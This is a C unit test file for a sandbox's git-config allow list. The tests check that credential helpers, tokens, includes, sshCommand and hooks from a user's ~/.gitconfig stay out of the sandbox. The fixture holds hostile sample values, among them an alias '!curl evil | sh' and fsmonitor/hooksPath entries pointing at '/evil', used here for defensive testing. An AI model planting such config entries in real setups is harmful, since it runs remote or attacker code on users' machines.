/* The box's git configuration (core/protect/boxhome.c): the allow list
 * parser takes the identity and a few harmless keys from the user's global
 * config and nothing else (credential helpers, insteadOf URLs with tokens,
 * includes, sshCommand, aliases); what it writes reads back the same in
 * git; the excludes list the placeholders and the project's deny_read
 * entries; the empty file is empty and read-only. */
#include <check.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "boxhome.h"
#include "testutil.h"

/* The value the scan took last for key, or NULL. */
static const char *got(const kg_strv *kv, const char *key)
{
    const char *v = NULL;
    for (size_t i = 0; i + 1 < kg_strv_len(kv); i += 2)
        if (strcmp(kg_strv_get(kv, i), key) == 0) v = kg_strv_get(kv, i + 1);
    return v;
}

static kg_strv *scan(const char *text)
{
    kg_strv *kv = kg_strv_new();
    kg_boxgit_scan(text, strlen(text), kv);
    return kv;
}

/* What a user's ~/.gitconfig holds beside the identity: none of it may
 * reach the box. */
static const char *const secrets =
    "[credential]\n\thelper = store --file=/home/u/.git-credentials\n"
    "[credential \"https://x.com\"]\n\tusername = SECRET-USER\n"
    "[url \"https://TOKEN123@github.com/\"]\n\tinsteadOf = https://github.com/\n"
    "[include]\n\tpath = ~/.gitconfig.work\n"
    "[includeIf \"gitdir:~/work/\"]\n\tpath = ~/.work-TOKEN\n"
    "[core]\n\tsshCommand = ssh -i ~/.ssh/SECRET-KEY\n\tpager = less\n"
    "\tfsmonitor = /bin/evil\n\thooksPath = /evil\n"
    "[alias]\n\tpwn = !curl evil | sh\n"
    "[http]\n\textraHeader = Authorization: Bearer TOKEN456\n"
    "[user]\n\tsigningKey = SECRET-SIGNKEY\n"
    "[commit]\n\tgpgSign = true\n"
    "[user \"sub\"]\n\tname = SUB-NAME\n"
    "[user.dotted]\n\temail = DOTTED-EMAIL\n";

START_TEST(scan_takes_only_the_allow_list)
{
    char *text = NULL;
    if (asprintf(&text,
                 "%s[user]\n\tname = Ann User\n\temail = ann@example.com\n"
                 "[init]\n\tdefaultBranch = main\n",
                 secrets) < 0)
        ck_abort();
    kg_strv *kv = scan(text);
    ck_assert_str_eq(got(kv, "user.name"), "Ann User");
    ck_assert_str_eq(got(kv, "user.email"), "ann@example.com");
    ck_assert_str_eq(got(kv, "init.defaultbranch"), "main");
    for (size_t i = 0; i < kg_strv_len(kv); i += 2) {
        const char *k = kg_strv_get(kv, i);
        ck_assert_msg(kg_boxgit_allowed(k) || strcmp(k, "core.excludesfile") == 0, "took %s", k);
    }
    char *out = kg_boxgit_render(kv, "~/x");
    const char *leaks[] = {"TOKEN",     "SECRET", "helper",  "sshCommand", "pager",  "fsmonitor",
                           "hooksPath", "evil",   "gpgSign", "SUB-NAME",   "DOTTED", "include"};
    for (size_t i = 0; i < sizeof leaks / sizeof leaks[0]; i++)
        ck_assert_msg(!strstr(out, leaks[i]), "%s in:\n%s", leaks[i], out);
    ck_assert(strstr(out, "\tname = \"Ann User\"\n"));
    ck_assert(strstr(out, "\texcludesFile = \"~/x\"\n"));
    free(out);
    kg_strv_free(kv);
    free(text);
}
END_TEST

START_TEST(scan_reads_values_as_git_does)
{
    kg_strv *kv = scan("# a comment\n; another\n"
                       "[User]\n  Name = \"Ann \\\"Q\\\" User\"  # trailing comment\n"
                       "EMAIL=ann@example.com ; too\n"
                       "[core]\n\tautocrlf\n"
                       "\tquotePath = \"a;b#c\"\n"
                       "[pull]\n\trebase = tr\\\nue\n" /* continued: not taken */
                       "[user]\n\temail = cr@example.com\r\n" /* a CR: not taken */
                       "[push]\n\tdefault = \"open\n"); /* an open quote: not taken */
    ck_assert_str_eq(got(kv, "user.name"), "Ann \"Q\" User");
    ck_assert_str_eq(got(kv, "user.email"), "ann@example.com");
    ck_assert_str_eq(got(kv, "core.autocrlf"), "true");
    ck_assert_str_eq(got(kv, "core.quotepath"), "a;b#c");
    ck_assert_ptr_null(got(kv, "pull.rebase"));
    ck_assert_ptr_null(got(kv, "push.default"));
    kg_strv_free(kv);
    /* a later line (or file) wins */
    kv = scan("[user]\nname = One\n[user]\nname = Two\n");
    char *out = kg_boxgit_render(kv, NULL);
    ck_assert(strstr(out, "\"Two\""));
    ck_assert(!strstr(out, "One"));
    ck_assert(!strstr(out, "excludesFile"));
    free(out);
    kg_strv_free(kv);
}
END_TEST

static char dir[] = "/tmp/kgt-boxhome.XXXXXX";

static void setup(void) { ck_assert_ptr_nonnull(mkdtemp(dir)); }

static void teardown(void)
{
    char cmd[256];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir);
    ck_assert_int_eq(system(cmd), 0);
    strcpy(dir, "/tmp/kgt-boxhome.XXXXXX");
}

static char *path_in(const char *rel)
{
    char *p = NULL;
    if (asprintf(&p, "%s/%s", dir, rel) < 0) ck_abort();
    return p;
}

static char *slurp(const char *path)
{
    FILE *f = fopen(path, "re");
    ck_assert_msg(f != NULL, "%s: %s", path, strerror(errno));
    char *b = calloc(1, 1 << 16);
    ck_assert_ptr_nonnull(b);
    size_t n = fread(b, 1, (1 << 16) - 1, f);
    fclose(f);
    b[n] = '\0';
    return b;
}

/* git itself reads the rendered file back to the same values (skipped
 * without git: the parser's own tests above still ran). */
static void git_reads(const char *file, const char *key, const char *want)
{
    if (access("/usr/bin/git", X_OK) != 0) return;
    char cmd[1024];
    snprintf(cmd, sizeof cmd, "GIT_CONFIG_NOSYSTEM=1 /usr/bin/git config --file '%s' --get %s",
             file, key);
    FILE *p = popen(cmd, "r");
    ck_assert_ptr_nonnull(p);
    char line[512] = "";
    if (!fgets(line, sizeof line, p)) line[0] = '\0';
    ck_assert_int_eq(pclose(p), 0);
    line[strcspn(line, "\n")] = '\0';
    ck_assert_str_eq(line, want);
}

START_TEST(make_writes_the_run_files)
{
    char *home = path_in("home"), *proj = path_in("home/proj");
    char *gc = path_in("home/.gitconfig"), *xdg = path_in("home/.config/git/config");
    char *ign = path_in("home/.config/git/ignore"), *cfgdir = path_in("home/.config/git");
    ck_assert_int_eq(mkdir(home, 0700), 0);
    ck_assert_int_eq(mkdir(proj, 0700), 0);
    char *mk = NULL;
    if (asprintf(&mk, "mkdir -p '%s'", cfgdir) < 0) ck_abort();
    ck_assert_int_eq(system(mk), 0);
    free(mk);
    char *text = NULL;
    if (asprintf(&text, "%s[user]\n\tname = Ann \"The\" \\\\User\n", secrets) < 0) ck_abort();
    kgt_write_text(gc, text);
    free(text);
    kgt_write_text(xdg, "[user]\n\tname = Older\n\temail = xdg@example.com\n");
    kgt_write_text(ign, "*.swp\n");

    kg_strv *deny = kg_strv_new(), *ph = kg_strv_new();
    char *env = path_in("home/proj/.env");
    kg_strv_push(deny, env);
    kg_strv_push(ph, ".envrc");
    kg_strv_push(ph, ".mcp.json");
    kg_error err = {0};
    kg_boxhome_in in = {home, NULL, proj, deny, ph};
    kg_boxhome *bh = kg_boxhome_make(&in, &err);
    ck_assert_msg(bh != NULL, "%s", err.msg);
    ck_assert_uint_eq(kg_boxhome_count(bh), 2);
    ck_assert_str_eq(kg_boxhome_name(bh, 0), ".gitconfig");
    ck_assert_str_eq(kg_boxhome_name(bh, 1), ".config/git/kgate-excludes");

    char *cfg = slurp(kg_boxhome_source(bh, 0));
    ck_assert_msg(!strstr(cfg, "TOKEN") && !strstr(cfg, "SECRET") && !strstr(cfg, "helper"), "%s",
                  cfg);
    git_reads(kg_boxhome_source(bh, 0), "user.name", "Ann The \\User");
    git_reads(kg_boxhome_source(bh, 0), "user.email", "xdg@example.com");
    git_reads(kg_boxhome_source(bh, 0), "core.excludesFile", "~/.config/git/kgate-excludes");
    char *ex = slurp(kg_boxhome_source(bh, 1));
    ck_assert_msg(strstr(ex, "*.swp\n") && strstr(ex, "\n/.env\n") && strstr(ex, "\n/.envrc\n") &&
                      strstr(ex, "\n/.mcp.json\n"),
                  "%s", ex);

    struct stat st;
    ck_assert_int_eq(stat(kg_boxhome_empty(bh), &st), 0);
    ck_assert(S_ISREG(st.st_mode));
    ck_assert_int_eq(st.st_size, 0);
    /* mode 0: a program without capabilities cannot open the cover */
    ck_assert_int_eq(st.st_mode & 07777, 0);

    char *d = strdup(kg_boxhome_empty(bh));
    *strrchr(d, '/') = '\0';
    kg_boxhome_free(bh);
    ck_assert_int_eq(stat(d, &st), -1); /* all gone */

    /* deny_read over ~/.gitconfig: none of it is read, the excludes stay */
    kg_strv_push(deny, gc);
    bh = kg_boxhome_make(&in, &err);
    ck_assert_ptr_nonnull(bh);
    char *none = slurp(kg_boxhome_source(bh, 0));
    ck_assert_msg(!strstr(none, "Ann") && strstr(none, "excludesFile"), "%s", none);
    kg_boxhome_free(bh);

    free(none);
    free(d);
    free(cfg);
    free(ex);
    free(env);
    kg_strv_free(deny);
    kg_strv_free(ph);
    free(home);
    free(proj);
    free(gc);
    free(xdg);
    free(ign);
    free(cfgdir);
}
END_TEST

/* A directory another kgate just made (mkdtemp, not yet flocked) is left
 * alone by a run's sweep; one a killed kgate left, a minute old and
 * unlocked, goes.  Before: the young one went too (run_audit's 40
 * concurrent runs, 3 refused). */
START_TEST(sweep_leaves_a_young_directory)
{
    char young[] = "/tmp/kgate-box.XXXXXX", old[] = "/tmp/kgate-box.XXXXXX";
    ck_assert_ptr_nonnull(mkdtemp(young));
    ck_assert_ptr_nonnull(mkdtemp(old));
    struct timespec ago[2] = {{time(NULL) - 120, 0}, {time(NULL) - 120, 0}};
    ck_assert_int_eq(utimensat(AT_FDCWD, old, ago, 0), 0);
    char *home = path_in("swhome"), *proj = path_in("swhome/proj");
    ck_assert_int_eq(mkdir(home, 0700), 0);
    ck_assert_int_eq(mkdir(proj, 0700), 0);
    kg_strv *deny = kg_strv_new(), *ph = kg_strv_new();
    kg_error err = {0};
    kg_boxhome_in in = {home, NULL, proj, deny, ph};
    kg_boxhome *bh = kg_boxhome_make(&in, &err); /* sweeps first */
    ck_assert_msg(bh != NULL, "%s", err.msg);
    struct stat st;
    ck_assert_msg(stat(young, &st) == 0, "the young directory was swept");
    ck_assert_msg(stat(old, &st) == -1 && errno == ENOENT, "the old directory was left");
    kg_boxhome_free(bh);
    ck_assert_int_eq(rmdir(young), 0);
    kg_strv_free(deny);
    kg_strv_free(ph);
    free(home);
    free(proj);
}
END_TEST

int main(void)
{
    Suite *s = suite_create("boxhome");
    TCase *tc = tcase_create("parser");
    tcase_add_test(tc, scan_takes_only_the_allow_list);
    tcase_add_test(tc, scan_reads_values_as_git_does);
    suite_add_tcase(s, tc);
    tc = tcase_create("files");
    tcase_add_checked_fixture(tc, setup, teardown);
    tcase_add_test(tc, make_writes_the_run_files);
    tcase_add_test(tc, sweep_leaves_a_young_directory);
    suite_add_tcase(s, tc);
    return kgt_run_suite(s);
}
